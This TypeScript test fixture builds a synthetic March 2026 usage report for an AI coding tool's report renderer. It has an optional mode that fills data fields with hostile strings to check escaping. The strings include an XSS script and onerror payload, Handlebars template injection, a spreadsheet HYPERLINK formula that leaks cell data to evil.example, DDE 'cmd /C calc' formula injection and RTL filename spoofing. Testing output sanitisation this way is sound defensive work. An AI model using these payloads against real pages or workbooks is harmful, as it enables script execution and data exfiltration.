/**
 * A hand-written, deterministic report model for the renderer's tests: March 2026 for a small
 * organization with every section filled, optionally scaled to many users (benchmark) or seeded with
 * hostile strings in every text field that comes from the data.
 */
import type {
  ControlChangeRow,
  DailyRow,
  Figure,
  FigureId,
  FigureUnit,
  NamedCount,
  ReportModel,
  SpanBehaviour,
  UserMonthRow,
  WeeklyRow,
} from '@orgreport/metrics';

/** Text that must come out escaped in HTML and inert in the workbook. */
export const HOSTILE_STRINGS = {
  script: '<script>window.__pwned=1</script><img src="https://evil.example/x.png" onerror="alert(1)">',
  handlebars: '{{constructor.constructor "alert(1)"}} {{> layout}} {{{raw}}}',
  hyperlink: '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  cmd: "+cmd|' /C calc'!A0",
  sum: "@SUM(1+1)*cmd|' /C calc'!A0",
  minus: '-2+3',
  tab: '\t=1+1',
  cr: '\r=1+1',
  rtl: '\u202Egnp.exe\u202C user \u200Fעברית\u200F',
  emoji: '🚀 team 👩🏽‍💻',
  long: 'L'.repeat(10_000),
  empty: '',
} as const;

/** Options of {@link makeFixtureModel}. */
export interface FixtureOptions {
  /** Number of users (default 8, 14 with hostile strings). */
  users?: number;
  /** Put hostile strings in names, e-mails, URLs, tool names, rationales and settings values. */
  hostile?: boolean;
  /** Configure a price per credit. */
  pricing?: { pricePerCredit: number; currency: string } | null;
}

function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const DAYS = Array.from({ length: 31 }, (_, i) => `2026-03-${String(i + 1).padStart(2, '0')}`);

function isoWeek(day: string): string {
  const d = new Date(`${day}T00:00:00Z`);
  const dow = (d.getUTCDay() + 6) % 7;
  d.setUTCDate(d.getUTCDate() - dow + 3);
  // d is now the Thursday of the ISO week, which lies in the week's ISO year.
  const year = d.getUTCFullYear();
  const week = 1 + Math.floor((d.getTime() - Date.UTC(year, 0, 1)) / (7 * 86_400_000));
  return `${year}-W${String(week).padStart(2, '0')}`;
}

const sum = (xs: number[]) => xs.reduce((a, b) => a + b, 0);
const round = (x: number, d = 4) => Math.round(x * 10 ** d) / 10 ** d;

/** Builds the fixture model. The same options give the same model. */
export function makeFixtureModel(options: FixtureOptions = {}): ReportModel {
  const hostile = options.hostile ?? false;
  // A hostile model has a user for each hostile string (the e-mails carry them).
  const userCount = options.users ?? (hostile ? 14 : 8);
  const rand = prng(42);
  const h = HOSTILE_STRINGS;
  const hostileList = Object.values(h);

  const daily: DailyRow[] = DAYS.map((date, i) => {
    const weekend = [0, 6].includes(new Date(`${date}T00:00:00Z`).getUTCDay());
    const dau = Math.max(1, Math.round(userCount * (weekend ? 0.3 : 0.7) + rand() * 2));
    const toolCalls = dau * (40 + Math.floor(rand() * 20));
    const userMessages = Math.round(toolCalls / 6);
    const high = round(0.4 + rand() * 0.1);
    const medium = round(0.3);
    const low = round(0.2);
    return {
      date,
      hasData: i !== 9,
      credits: dau * (9_000 + Math.floor(rand() * 4_000)),
      input_tokens: dau * 120_000,
      output_tokens: dau * 30_000,
      cache_read_tokens: dau * 400_000,
      cache_write_tokens: dau * 50_000,
      tool_calls: toolCalls,
      mcp_calls: Math.round(toolCalls * 0.1),
      skill_calls: Math.round(toolCalls * 0.02),
      slash_commands: Math.round(toolCalls * 0.03),
      hooks: Math.round(toolCalls * 0.05),
      sessions: dau * 3,
      messages: userMessages * 3,
      user_messages: userMessages,
      files_created: dau * 2,
      files_edited: dau * 9,
      git_commits: dau * 2,
      git_prs_created: Math.round(dau / 2),
      dau,
      wau: Math.min(userCount, dau + 2),
      mau_trailing_30d: userCount,
      active_users: dau,
      auto_high: high,
      auto_medium: medium,
      auto_low: low,
      manual: round(1 - high - medium - low),
    };
  });

  const weekLabels = [...new Set(DAYS.map(isoWeek))];
  const weekly: WeeklyRow[] = weekLabels.map((week) => {
    const days = daily.filter((d) => isoWeek(d.date) === week);
    const s = (k: keyof DailyRow) => sum(days.map((d) => d[k] as number));
    const last = days[days.length - 1]!;
    return {
      week,
      start: days[0]!.date,
      end: last.date,
      days_in_period: days.length,
      partial: days.length < 7,
      credits: s('credits'),
      input_tokens: s('input_tokens'),
      output_tokens: s('output_tokens'),
      cache_read_tokens: s('cache_read_tokens'),
      cache_write_tokens: s('cache_write_tokens'),
      tool_calls: s('tool_calls'),
      sessions: s('sessions'),
      messages: s('messages'),
      user_messages: s('user_messages'),
      files_created: s('files_created'),
      files_edited: s('files_edited'),
      git_commits: s('git_commits'),
      git_prs_created: s('git_prs_created'),
      active_users: Math.min(userCount, Math.max(...days.map((d) => d.dau)) + 1),
      avg_dau: round(s('dau') / days.length),
      max_dau: Math.max(...days.map((d) => d.dau)),
      wau: last.wau,
      wau_exact: new Date(`${last.date}T00:00:00Z`).getUTCDay() === 0,
      autonomy_mean: 5.8,
      autonomy_p50: 5.5,
      autonomy_p90: 8.25,
      autonomy_users: userCount,
      auto_high: 0.45,
      auto_medium: 0.3,
      auto_low: 0.2,
      manual: 0.05,
      delegation_auto_high: 0.5,
      delegation_auto_medium: 0.25,
      delegation_auto_low: 0.125,
      delegation_spec: 0.125,
      delegation_manual: 0,
      delegation_other: 0,
    };
  });

  const totalCredits = sum(daily.map((d) => d.credits));
  const price = options.pricing?.pricePerCredit ?? null;
  const cost = (credits: number) => (price === null ? null : round(credits * price, 6));

  const users: UserMonthRow[] = Array.from({ length: userCount }, (_, i) => {
    const credits = Math.round((totalCredits / userCount) * (0.5 + ((i * 37) % 100) / 100));
    const tool = Math.round(credits / 200);
    const um = Math.max(1, Math.round(tool / 6));
    const email =
      hostile && i < hostileList.length
        ? hostileList[i]!
        : `user${String(i + 1).padStart(5, '0')}@example.com`;
    const limit = i % 3 === 0 ? Math.round(credits * (i % 2 ? 0.9 : 1.5)) : null;
    return {
      user_id: `u-${String(i + 1).padStart(5, '0')}`,
      email: i === 1 && !hostile ? null : email,
      name: null,
      active_days: 10 + (i % 15),
      credits,
      tool_calls: tool,
      sessions: 20 + (i % 9),
      messages: um * 3,
      user_messages: um,
      files_created: i % 7,
      files_edited: 5 + (i % 11),
      git_commits: 3 + (i % 5),
      git_prs_created: i % 3,
      mcp_calls: i % 13,
      skill_calls: i % 4,
      slash_commands: i % 6,
      hooks: i % 8,
      primary_model: i % 4 === 0 ? 'model-thinking-large' : 'model-standard',
      primary_model_tier: i % 4 === 0 ? 'thinking' : 'standard',
      primary_delegation: ['auto-high', 'auto-medium', 'spec', 'auto-low'][i % 4]!,
      autonomy: round(tool / um, 6),
      languages: ['typescript', 'python'],
      credit_limit: limit,
      limit_utilization: limit ? round(credits / limit, 6) : null,
      over_80: limit ? credits / limit >= 0.8 : false,
      over_100: limit ? credits / limit >= 1 : false,
      cost: cost(credits),
    };
  }).sort((a, b) => b.credits - a.credits);

  const named = (names: string[], base: number): NamedCount[] => {
    const counts = names.map((_, i) => Math.round(base / (i + 1)));
    const total = sum(counts);
    return names.map((name, i) => ({ name, count: counts[i]!, share: round(counts[i]! / total, 6) }));
  };
  const toolNames = ['Read', 'Edit', 'Bash', 'Grep', 'Write', 'Glob', 'TodoWrite', 'WebFetch'];
  if (hostile) toolNames.push(h.script, h.hyperlink, h.handlebars, h.emoji, h.long);

  const fig = (
    id: FigureId,
    label: string,
    unit: FigureUnit,
    value: number | null,
    previous: number | null,
    note?: string,
  ): Figure => ({
    id,
    label,
    unit,
    value,
    previous,
    ...(unit === 'share' || unit === 'score'
      ? {
          change: value === null || previous === null ? null : round(value - previous, 6),
          changeKind: 'points' as const,
        }
      : unit === 'level'
        ? {
            change: value === null || previous === null ? null : value - previous,
            changeKind: 'difference' as const,
          }
        : {
            change:
              value === null || previous === null || previous === 0
                ? null
                : round((value - previous) / Math.abs(previous), 6),
            changeKind: 'relative' as const,
          }),
    ...(note ? { note } : {}),
  });
  const dsum = (k: keyof DailyRow) => sum(daily.map((d) => d[k] as number));
  const avgDau = dsum('dau') / daily.length;
  const seats = userCount + 2;
  const figures: Figure[] = [
    fig('credits', 'Credits consumed', 'credits', totalCredits, Math.round(totalCredits * 0.9)),
    fig('input_tokens', 'Input tokens', 'tokens', dsum('input_tokens'), dsum('input_tokens') - 1000),
    fig('output_tokens', 'Output tokens', 'tokens', dsum('output_tokens'), null),
    fig('cache_read_tokens', 'Cache read tokens', 'tokens', dsum('cache_read_tokens'), null),
    fig('cache_write_tokens', 'Cache write tokens', 'tokens', dsum('cache_write_tokens'), null),
    fig('tool_calls', 'Tool calls', 'count', dsum('tool_calls'), Math.round(dsum('tool_calls') * 1.1)),
    fig('sessions', 'Sessions', 'count', dsum('sessions'), dsum('sessions')),
    fig('messages', 'Messages', 'count', dsum('messages'), 0),
    fig('user_messages', 'User messages', 'count', dsum('user_messages'), null),
    fig('files_created', 'Files created', 'count', dsum('files_created'), null),
    fig('files_edited', 'Files edited', 'count', dsum('files_edited'), null),
    fig('git_commits', 'Commits', 'count', dsum('git_commits'), null),
    fig('git_prs_created', 'Pull requests created', 'count', dsum('git_prs_created'), null),
    fig('active_users', 'Active users', 'count', userCount, userCount - 1),
    fig('avg_dau', 'Average daily active users', 'ratio', avgDau, avgDau - 0.5),
    fig('peak_dau', 'Peak daily active users', 'count', Math.max(...daily.map((d) => d.dau)), null),
    fig('stickiness', 'Stickiness (average DAU / active users)', 'share', avgDau / userCount, 0.5),
    fig(
      'mau_trailing_30d',
      'Monthly active users (trailing 30 days)',
      'count',
      userCount,
      null,
      'trailing 30 days, not the month’s figure',
    ),
    fig('autonomy_mean', 'Autonomy ratio, mean', 'ratio', 5.8, 5.1),
    fig('autonomy_p50', 'Autonomy ratio, median', 'ratio', 5.5, null),
    fig('autonomy_p90', 'Autonomy ratio, 90th percentile', 'ratio', 8.25, null),
    fig('seats', 'Seats', 'count', seats, seats),
    fig('seat_utilization', 'Seat utilization', 'share', userCount / seats, null),
    fig('dormant_seats', 'Dormant seats', 'count', 2, 3),
    fig('readiness_org_score', 'Org readiness score', 'score', 0.6875, 0.625),
    fig('readiness_org_level', 'Org readiness level', 'level', 2, 2),
    fig('readiness_repos', 'Repositories with a readiness report', 'count', 2, 1),
    fig('controls_changes', 'Enterprise-control changes', 'count', 1, 0),
  ];

  const behaviour = (span: string, start: string, end: string): SpanBehaviour => ({
    span,
    start,
    end,
    autonomy: { users: userCount, mean: 5.8, p50: 5.5, p90: 8.25 },
    autonomyMix: {
      auto_high: 0.45,
      auto_medium: 0.3,
      auto_low: 0.2,
      manual: 0.05,
      weighted_tool_calls: dsum('tool_calls'),
    },
    delegation: {
      active_users: userCount,
      counts: { 'auto-high': 4, 'auto-medium': 2, 'auto-low': 1, spec: 1, manual: 0 },
      shares: { 'auto-high': 0.5, 'auto-medium': 0.25, 'auto-low': 0.125, spec: 0.125, manual: 0 },
    },
  });

  const repoA = hostile ? `https://git.example.com/${h.script}` : 'https://git.example.com/acme/api';
  const changes: ControlChangeRow[] = [
    {
      revision: 7,
      updated_at: '2026-03-12T09:30:00Z',
      user: {
        id: 'u-00001',
        email: hostile ? h.hyperlink : 'admin@example.com',
        name: hostile ? h.rtl : 'Ada Admin',
      },
      previous_revision: 6,
      diffs: [
        {
          path: 'modelPolicy.allowedModelIds',
          kind: 'changed',
          before: '["model-standard"]',
          after: hostile ? h.cmd : '["model-standard","model-thinking-large"]',
          redacted: false,
          security: true,
        },
        {
          path: 'customModels[0].apiKey',
          kind: 'changed',
          before: '[redacted]',
          after: 'changed (redacted)',
          redacted: true,
          security: true,
        },
        {
          path: 'hooks.enabled',
          kind: 'added',
          before: null,
          after: hostile ? h.handlebars : 'true',
          redacted: false,
          security: false,
        },
      ],
    },
  ];

  return {
    modelVersion: 1,
    organization: { id: 'org-fixture', name: hostile ? `Acme ${h.script} ${h.handlebars}` : 'Acme Robotics' },
    period: {
      month: '2026-03',
      start: '2026-03-01',
      end: '2026-03-31',
      days: 31,
      partial: false,
      clampedStart: false,
      endsEarly: false,
    },
    comparison: {
      month: '2026-02',
      start: '2026-02-01',
      end: '2026-02-28',
      days: 28,
      partial: false,
      clampedStart: false,
      endsEarly: false,
    },
    comparisonHasData: true,
    partial: false,
    generatedAt: '2026-04-01T06:00:00.000Z',
    source: { fetchedAt: '2026-04-01T05:58:00.000Z', toolVersion: '0.1.0', baseUrl: 'http://127.0.0.1:4010' },
    pricing: options.pricing ?? null,
    figures,
    whatChanged: [
      { kind: 'figure', figure: figures[0]! },
      { kind: 'users', active: userCount, new: 2, lost: 1 },
      { kind: 'reclaim', seats, dormant: 2, candidates: 1 },
    ],
    daily,
    weekly,
    behaviour: {
      month: behaviour('2026-03', '2026-03-01', '2026-03-31'),
      weeks: weekly.map((w) => behaviour(w.week, w.start, w.end)),
    },
    credits: {
      total: totalCredits,
      cost: cost(totalCredits),
      byModel: [
        {
          model_id: 'model-standard',
          model_tier: 'standard',
          credits: Math.round(totalCredits * 0.7),
          input_tokens: 1,
          output_tokens: 1,
          share: 0.7,
          cost: cost(Math.round(totalCredits * 0.7)),
        },
        {
          model_id: hostile ? h.sum : 'model-thinking-large',
          model_tier: 'thinking',
          credits: totalCredits - Math.round(totalCredits * 0.7),
          input_tokens: 1,
          output_tokens: 1,
          share: 0.3,
          cost: cost(totalCredits - Math.round(totalCredits * 0.7)),
        },
      ],
      byTier: [
        {
          tier: 'standard',
          credits: Math.round(totalCredits * 0.7),
          share: 0.7,
          cost: cost(Math.round(totalCredits * 0.7)),
        },
        {
          tier: 'thinking',
          credits: totalCredits - Math.round(totalCredits * 0.7),
          share: 0.3,
          cost: cost(totalCredits - Math.round(totalCredits * 0.7)),
        },
      ],
    },
    tools: {
      total: dsum('tool_calls'),
      top: named(toolNames, 5_000),
      unparseable: 3,
      mcpTotal: dsum('mcp_calls'),
      mcpServers: [
        {
          name: 'github',
          count: 300,
          share: 0.6,
          spellings: [
            { name: 'github', count: 280 },
            { name: 'GitHub', count: 20 },
          ],
        },
        {
          name: hostile ? h.emoji : 'linear',
          count: 200,
          share: 0.4,
          spellings: [{ name: hostile ? h.emoji : 'linear', count: 200 }],
        },
      ],
      skillsTotal: dsum('skill_calls'),
      skills: named(['pdf', 'xlsx', hostile ? h.minus : 'release-notes'], 100),
      slashCommandsTotal: dsum('slash_commands'),
      slashCommands: named(['/review', '/test', hostile ? h.tab : '/deploy'], 120),
      hooksTotal: dsum('hooks'),
      hooks: [
        {
          event: 'PreToolUse',
          count: 400,
          share: 0.8,
          commands: [{ matcher: 'Bash', command: hostile ? h.cr : 'scripts/check.sh', count: 400 }],
        },
        {
          event: 'SessionEnd',
          count: 100,
          share: 0.2,
          commands: [{ matcher: null, command: 'scripts/log.sh', count: 100 }],
        },
      ],
    },
    productivity: {
      files_created: dsum('files_created'),
      files_edited: dsum('files_edited'),
      git_commits: dsum('git_commits'),
      git_prs_created: dsum('git_prs_created'),
      byLanguage: named(['typescript', 'python', 'go'], 900),
      byExtension: named(['.ts', '.py', '.go', '.md'], 1000),
    },
    users,
    clients: [
      { client: 'terminal-ui', avg_dau: 4.2, peak_dau: 7, user_days: 130 },
      { client: 'web', avg_dau: 1.1, peak_dau: 3, user_days: 34 },
      { client: 'non-interactive-cli', avg_dau: null, peak_dau: null, user_days: 0 },
    ],
    readiness: {
      org_score: 0.6875,
      org_level: 2,
      level_names: ['Functional', 'Documented', 'Standardized', 'Optimized', 'Autonomous'],
      repos: [
        {
          repo_url: repoA,
          report_id: 'r-2',
          created_at: '2026-03-20T10:00:00Z',
          score: 0.75,
          level: 3,
          previous_score: 0.625,
          trend: 0.125,
        },
        {
          repo_url: 'https://git.example.com/acme/web',
          report_id: 'r-3',
          created_at: '2026-03-05T10:00:00Z',
          score: 0.625,
          level: 2,
          previous_score: null,
          trend: null,
        },
      ],
      reports: [
        {
          report_id: 'r-2',
          repo_url: repoA,
          created_at: '2026-03-20T10:00:00Z',
          score: 0.75,
          level: 3,
          evaluated: 4,
          passed: 3,
          skipped: 1,
          invalid: 0,
          criteria: [
            { criterion: 'readme', numerator: 1, denominator: 1, score: 1, status: 'pass' },
            {
              criterion: hostile ? h.hyperlink : 'lint_config',
              numerator: 1,
              denominator: 2,
              score: 0.5,
              status: 'partial',
            },
          ],
        },
      ],
      criteria: [
        {
          criterion: hostile ? h.hyperlink : 'lint_config',
          level: 2,
          mean_score: 0.5,
          evaluated: 2,
          passed: 1,
          skipped: 0,
          invalid: 0,
        },
        {
          criterion: 'unit_tests',
          level: 3,
          mean_score: 0.625,
          evaluated: 2,
          passed: 1,
          skipped: 0,
          invalid: 1,
        },
        { criterion: 'readme', level: 1, mean_score: 1, evaluated: 2, passed: 2, skipped: 0, invalid: 0 },
        {
          criterion: 'custom_check',
          level: null,
          mean_score: null,
          evaluated: 0,
          passed: 0,
          skipped: 1,
          invalid: 0,
        },
      ],
      weakest: [
        {
          criterion: hostile ? h.hyperlink : 'lint_config',
          level: 2,
          mean_score: 0.5,
          evaluated: 2,
          passed: 1,
          skipped: 0,
          invalid: 0,
        },
        {
          criterion: 'unit_tests',
          level: 3,
          mean_score: 0.625,
          evaluated: 2,
          passed: 1,
          skipped: 0,
          invalid: 1,
        },
      ],
      unmapped_criteria: ['custom_check'],
      skipped_evaluations: 1,
      invalid_evaluations: 1,
      rule: 'A repository starts at level 1 and reaches level n+1 when at least 80 % of its level-n criteria pass, level by level, up to 5.',
    },
    controls: {
      changes,
      current_revision: 7,
      security: changes.flatMap((c) =>
        c.diffs
          .filter((d) => d.security)
          .map((d) => ({ ...d, revision: c.revision, updated_at: c.updated_at, by: c.user.name })),
      ),
    },
    seats: {
      seats,
      active_users: userCount,
      utilization: round(userCount / seats, 6),
      dormant: 2,
      reclaim_candidates: 1,
      dormant_users: [
        {
          id: 'u-dormant-1',
          email: hostile ? h.sum : 'dormant1@example.com',
          name: hostile ? h.script : 'Dora Mant',
          created_at: '2026-01-20T09:30:00.000Z',
          last_active: '2026-02-17',
          last_sign_in: '2026-02-18T08:00:00.000Z',
          reclaim: false,
        },
        {
          id: 'u-dormant-2',
          email: null,
          name: null,
          created_at: null,
          last_active: null,
          last_sign_in: null,
          reclaim: true,
        },
      ],
    },
    hookEvents: {
      total: 120,
      by_event: [
        { event: 'PreToolUse', count: 90 },
        { event: hostile ? h.script : 'SessionEnd', count: 30 },
      ],
      session_end_reasons: [{ reason: 'logout', count: 30 }],
      sessions: 30,
      undated: 0,
    },
    dataQuality: [
      {
        kind: 'missing_days',
        message: 'One day of the period has no analytics data: 2026-03-10.',
        count: 1,
        details: ['2026-03-10'],
      },
      {
        kind: 'mcp_case_merged',
        message: 'MCP server spellings merged: github, GitHub.',
        count: 1,
        details: [
          {
            name: 'github',
            spellings: [
              { name: 'github', count: 1383 },
              { name: 'GitHub', count: 588 },
            ],
          },
        ],
      },
      {
        kind: 'unparseable_tool_names',
        message: hostile ? `Unparseable: ${h.script}` : '3 tool calls under unparseable names.',
        count: 3,
      },
    ],
    definitions: [
      { id: 'credits', term: 'Credits', text: 'The sum of billable tokens over the days of the period.' },
      {
        id: 'active_users',
        term: 'Active users',
        text: 'Distinct users with any tool call, message or session in the period.',
      },
      {
        id: 'stickiness',
        term: 'Stickiness',
        text: 'Average daily active users divided by the active users of the month.',
      },
      {
        id: 'mau_trailing_30d',
        term: 'Monthly active users (trailing 30 days)',
        text: 'The API’s trailing 30-day count on the period’s last day; not the month’s figure.',
      },
      {
        id: 'readiness_level',
        term: 'Readiness level',
        text: 'A repository starts at level 1 and reaches level n+1 when at least 80 % of its level-n criteria pass.',
      },
      ...(hostile ? [{ id: 'hostile', term: h.handlebars, text: h.script }] : []),
    ],
  };
}
